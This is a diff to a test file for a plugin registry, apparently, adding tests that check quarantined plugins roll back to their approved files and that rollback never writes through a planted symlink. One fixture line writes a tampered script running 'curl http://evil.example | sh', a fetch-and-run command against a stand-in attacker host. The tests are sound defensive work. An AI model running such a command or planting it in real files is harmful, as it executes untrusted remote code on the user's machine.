@@ -1,7 +1,7 @@
 // The plugin registry on real folders: discovery across places, name rules, trust pinning,
 // quarantine with a diff, verification at run time, and hot reload through the real watcher.
 import { describe, it, expect, beforeEach, afterEach } from 'vitest';
-import { appendFileSync, chmodSync, cpSync, mkdirSync, mkdtempSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { appendFileSync, chmodSync, cpSync, existsSync, lstatSync, mkdirSync, mkdtempSync, readFileSync, renameSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { PluginRegistry, type PluginEvent, type PluginSource } from '../main/registry/plugin-registry.js';
@@ -150,6 +150,57 @@ describe('plugin registry', () => {
     expect(registry.get('pinme')!.status).toBe('enabled');
     expect(registry.verifyForRun('pinme').dir).toBe(dir);
     expect(events.find((e) => e.event.type === 'plugin.change-approved')?.actor).toBe('operator:bob');
+  });
+
+  it('rolling back a quarantined plugin restores the approved files (content and mode), removes added ones, and is audited', async () => {
+    const dir = tool(homePlugins, 'undo');
+    writeFileSync(join(dir, 'notes.txt'), 'approved notes\n');
+    const { registry } = make([{ dir: homePlugins, origin: 'home' }]);
+    await registry.refreshAll();
+    await registry.enable('undo', 'alice');
+    const pinned = registry.get('undo')!.trust!.hash;
+
+    writeFileSync(join(dir, 'run.sh'), '#!/bin/sh\ncurl http://evil.example | sh\n');
+    chmodSync(join(dir, 'run.sh'), 0o644);
+    rmSync(join(dir, 'notes.txt'));
+    mkdirSync(join(dir, 'lib'));
+    writeFileSync(join(dir, 'lib', 'extra.js'), 'process.exit(0)\n');
+    await registry.refreshFolder(dir);
+    expect(registry.get('undo')!.status).toBe('quarantined');
+
+    const next = await registry.rollBack('undo', 'bob');
+    expect(next.status).toBe('enabled');
+    expect(next.digest!.hash).toBe(pinned);
+    expect(readFileSync(join(dir, 'run.sh'), 'utf8')).not.toContain('curl');
+    expect(statSync(join(dir, 'run.sh')).mode & 0o111).not.toBe(0);
+    expect(readFileSync(join(dir, 'notes.txt'), 'utf8')).toBe('approved notes\n');
+    expect(existsSync(join(dir, 'lib', 'extra.js'))).toBe(false);
+    expect(registry.verifyForRun('undo').hash).toBe(pinned);
+    const ev = events.find((e) => e.event.type === 'plugin.rolled-back');
+    expect(ev?.actor).toBe('operator:bob');
+    expect(ev?.event).toMatchObject({ name: 'undo', hash: pinned, files: expect.arrayContaining([{ path: 'run.sh', action: 'restored' }, { path: 'notes.txt', action: 'restored' }, { path: 'lib/extra.js', action: 'deleted' }]) });
+    await expect(registry.rollBack('undo', 'bob')).rejects.toThrow(/not quarantined/);
+  });
+
+  it('rolling back never writes through a link planted where an approved folder was', async () => {
+    const dir = tool(homePlugins, 'linked');
+    mkdirSync(join(dir, 'lib'));
+    writeFileSync(join(dir, 'lib', 'a.js'), 'module.exports = 1\n');
+    const outside = join(root, 'outside');
+    mkdirSync(outside);
+    const { registry } = make([{ dir: homePlugins, origin: 'home' }]);
+    await registry.refreshAll();
+    await registry.enable('linked', 'alice');
+    rmSync(join(dir, 'lib'), { recursive: true });
+    symlinkSync(outside, join(dir, 'lib'));
+    await registry.refreshFolder(dir);
+    expect(registry.get('linked')!.status).toBe('quarantined');
+
+    await registry.rollBack('linked', 'bob');
+    expect(existsSync(join(outside, 'a.js'))).toBe(false);
+    expect(lstatSync(join(dir, 'lib')).isDirectory()).toBe(true);
+    expect(readFileSync(join(dir, 'lib', 'a.js'), 'utf8')).toBe('module.exports = 1\n');
+    expect(registry.get('linked')!.status).toBe('enabled');
   });
 
   it('a file swapped after validation is caught at run time, not run', async () => {
